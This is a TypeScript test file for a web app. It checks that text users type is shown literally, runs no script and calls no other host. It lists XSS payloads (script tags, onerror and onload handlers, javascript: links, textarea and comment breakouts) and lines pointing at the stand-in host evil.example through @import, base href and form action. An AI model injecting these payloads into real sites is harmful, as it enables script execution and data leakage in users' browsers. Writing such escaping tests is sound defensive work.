import { expect, test } from 'vitest'
import { expectOk, newClient } from './people.ts'
import { runProduct } from './product.ts'
import { watchedPage } from './watched-page.ts'

const product = runProduct()

const RUN = 'window.ran=1'
const HOSTILE = [
  `<script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><svg onload=${RUN}>`,
  `' onfocus='${RUN}' autofocus='`,
  `<!--[/question]--><script>${RUN}</script><!--[question community.belong]-->`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example/><input name=q>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the test
  '${ran=1} {{ran=1}} {%ran%} $& $1 $` \\u003cscript\\u003e',
  '\u202Eright to left\u202C e\u0301 👩‍👩‍👧‍👦 \uFEFF\u200B',
]

test('whatever people type is shown as they typed it, runs nowhere, and asks no other host for anything', async () => {
  for (const text of HOSTILE) {
    const client = newClient(product.server)
    await expectOk(await client.save('community.belong', { story: text }, 0))
    await expectOk(await client.save('community.belong', { story: `${text} again` }, 1))
    await expectOk(await client.save('community.working-definition', { definition: text }, 0))
    await expectOk(await client.save('community.practice', { plan: { when: text, will: text } }, 0))
    const row = { row: text.slice(0, 190), cells: { kind: 'place', closeness: 'near', tie: 'linking' } }
    await expectOk(await client.save('community.my-communities', { communities: [row] }, 0))
    await using watched = await watchedPage(product.browser, product.server.url)
    const { page, problems } = watched
    const [name, value] = client.cookie.split('=') as [string, string]
    await page.context().addCookies([{ name, value, url: product.server.url }])
    for (const path of ['/chapters/community', '/chapters/cd', '/notebook', '/standards/sc-networks/k14']) {
      await page.goto(path)
      expect(await page.evaluate(() => 'ran' in window), `${path}: ${text}`).toBe(false)
      if (path === '/chapters/community')
        expect(await page.locator('[id="community.belong"] textarea[name="story"]').inputValue()).toBe(`${text} again`)
      else expect(await page.locator('main').textContent(), path).toContain(text)
    }
    expect(problems, text).toEqual([])
  }
}, 240_000)
